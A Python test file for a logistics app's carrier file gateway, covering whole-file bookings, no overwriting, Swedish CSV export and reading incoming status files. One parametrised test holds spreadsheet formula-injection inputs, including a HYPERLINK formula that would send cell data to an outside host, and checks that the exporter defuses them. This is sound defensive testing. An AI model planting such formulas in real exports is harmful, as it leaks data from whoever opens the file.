"""A carrier's folder: bookings laid whole and never over another, its words read once and put away."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime, time
from pathlib import Path
from uuid import UUID

import orjson
import pytest

from uttag.gateways.carriers import documents
from uttag.gateways.carriers.documents import COLUMNS
from uttag.gateways.carriers.files import Files
from uttag.gateways.carriers.messages import MOST_BYTES, Unreadable, read
from uttag.gateways.carriers.port import Box, Consignment, Document, LinkDown, Outcome, Service

BOX = Box(
    sscc="304000000000000017",
    number=1,
    of=1,
    order="B-1",
    recipient="Åsa Öberg; syster",
    place=("Ekbacken", "Godsmottagningen"),
    street="Storgatan 1",
    postal_code="53230",
    city="Skara",
    service=Service.SPECIAL_HOUSING,
    pickup_point="",
    window_from=time(8),
    window_to=time(16),
    latest_day=date(2026, 4, 9),
    door_code="",
    phone="+46701740605",
    instructions=("Ring på", 'Porten "B"'),
    weight_g=None,
)
CONSIGNMENT = Consignment(
    UUID("6f1d2f0a-9a3b-4f8e-8f70-3f8f5ad0a9b1"), "BUDET", datetime(2026, 4, 2, 15, 30, tzinfo=UTC), (BOX,)
)


def test_a_booking_is_laid_whole_in_out(tmp_path: Path) -> None:
    link = Files(tmp_path, "BUDET")
    document = link.document(CONSIGNMENT)
    assert link.book(CONSIGNMENT, document).outcome is Outcome.AWAITED
    [laid] = (tmp_path / "out").iterdir()  # no unfinished file beside it
    told = orjson.loads(laid.read_bytes())
    assert (told["leaves_at"], told["boxes"][0]["window_to"]) == ("2026-04-02T17:30+02:00", "16:00")


@pytest.mark.clause("I3")
def test_what_lies_there_is_never_written_over(tmp_path: Path) -> None:
    link = Files(tmp_path, "BUDET")
    document = link.document(CONSIGNMENT)
    for content in (document.content, b"other"):
        link.book(CONSIGNMENT, Document(document.name, document.media_type, content))
    [laid] = (tmp_path / "out").iterdir()
    assert laid.read_bytes() == document.content


def test_csv_keeps_swedish_letters_and_separators(tmp_path: Path) -> None:
    head, line = (
        Files(tmp_path, "BUDET", "csv").document(CONSIGNMENT).content.decode("utf-8-sig").splitlines()
    )
    assert head == ";".join(COLUMNS)
    assert '"Åsa Öberg; syster"' in line
    assert "+46701740605" in line


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_no_spreadsheet_takes_what_people_type_for_a_formula(tmp_path: Path, first: str) -> None:
    typed = f'{first}HYPERLINK("http://x.se/?"&A2,"klicka")'
    box = replace(CONSIGNMENT.boxes[0], instructions=(typed, "=1"), phone="070-1 = 2", door_code=typed)
    told = replace(CONSIGNMENT, boxes=(box,))
    text = documents.as_csv(told).decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
    assert (row["door_code"], row["instructions"]) == (f"'{typed}", f"'{typed} / =1")
    assert row["phone"] == "070-1 = 2"
    assert orjson.loads(documents.as_json(told))["boxes"][0]["door_code"] == typed


def test_a_folder_that_cannot_be_written_is_a_link_that_is_down(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    link = Files(tmp_path / "file", "BUDET")
    with pytest.raises(LinkDown):
        link.book(CONSIGNMENT, link.document(CONSIGNMENT))
    with pytest.raises(LinkDown):
        list(link.found())


def test_files_are_found_once_they_are_whole_and_put_away(tmp_path: Path) -> None:
    link = Files(tmp_path, "BUDET")
    coming = tmp_path / "in"
    coming.mkdir()
    for name in ("b.json", "a.csv", ".hidden", "c.json.part"):
        (coming / name).write_text(name)
    first, second = link.found()
    assert (first.path.name, first.is_csv, second.path.name) == ("a.csv", True, "b.json")
    link.put_away(first)
    link.put_away(first)
    link.put_away(second, "not JSON")
    assert (tmp_path / "done" / "a.csv").exists()
    assert (tmp_path / "faulty" / "b.json.why.txt").read_text() == "not JSON\n"
    assert list(link.found()) == []


def test_the_same_name_twice_keeps_both(tmp_path: Path) -> None:
    link = Files(tmp_path, "BUDET")
    (tmp_path / "in").mkdir()
    for content in ("1", "2"):
        (tmp_path / "in" / "status.json").write_text(content)
        [found] = link.found()
        link.put_away(found)
    assert len(list((tmp_path / "done").iterdir())) == 2


def test_a_name_that_is_no_text_is_one_all_the_same(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / b"st\xe4tus.json".decode("utf-8", "surrogateescape")).write_text("{}")
    [found] = Files(tmp_path, "BUDET").found()
    assert found.id.encode("utf-8").startswith(b"st?tus.json:")


def test_a_file_that_is_too_large_is_told_apart(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "big.json").write_bytes(b" " * (MOST_BYTES + 1))
    [found] = Files(tmp_path, "BUDET").found()
    assert found.too_large


def test_events_may_come_as_csv() -> None:
    lines = "\ufeffsscc;kind;happened_at\r\n304000000000000017;delivered;2026-04-02T10:00:00+02:00\r\n"
    assert read(lines, as_csv=True).events[0].kind == "delivered"


@pytest.mark.parametrize(
    "text", ["", "a;b\n1;2\n", "sscc;kind;happened_at\n1;2\n", "sscc;kind;happened_at\n1;2;3;4\n"]
)
def test_csv_that_is_not_as_agreed_is_unreadable(text: str) -> None:
    with pytest.raises(Unreadable):
        read(text, as_csv=True)


@pytest.mark.clause("D10")
def test_a_booking_is_forgotten_where_it_lies_and_nothing_else(tmp_path: Path) -> None:
    link = Files(tmp_path, "BUDET")
    link.forget(CONSIGNMENT.booking)  # no folder yet
    document = link.document(CONSIGNMENT)
    link.book(CONSIGNMENT, document)
    link.call_off(CONSIGNMENT.booking)
    (tmp_path / "out" / f".{document.name}.17.tmp").write_text("half")  # by a worker that was killed
    for _ in range(2):
        link.forget(CONSIGNMENT.booking)
    assert [path.name for path in (tmp_path / "out").iterdir()] == [f"call_off-{CONSIGNMENT.booking}.json"]
